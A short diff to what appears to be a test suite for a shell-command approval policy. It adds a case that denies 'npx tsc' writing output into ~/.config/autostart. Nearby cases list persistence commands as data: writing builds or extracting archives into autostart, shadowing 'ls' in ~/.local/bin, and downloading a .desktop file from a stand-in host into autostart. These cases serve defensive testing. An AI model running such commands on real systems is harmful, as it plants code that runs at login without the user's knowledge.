@@ -36,6 +36,7 @@ _OUTSIDE = "approval:write-outside-workspace"
         ("go build -o /home/u/.local/bin/ls .", Verdict.ASK, _OUTSIDE),
         ("cargo build --target-dir /home/u/.config/autostart", Verdict.DENY, _PERSIST),
         ("tsc --outDir /home/u/.config/autostart", Verdict.DENY, _PERSIST),
+        ("npx tsc --outDir /home/u/.config/autostart", Verdict.DENY, _PERSIST),
         ("aria2c -d ~/.config/autostart https://x.example/a.desktop", Verdict.DENY, _PERSIST),
         ("7z x x.7z -o/home/u/.config/autostart", Verdict.DENY, _PERSIST),
     ],
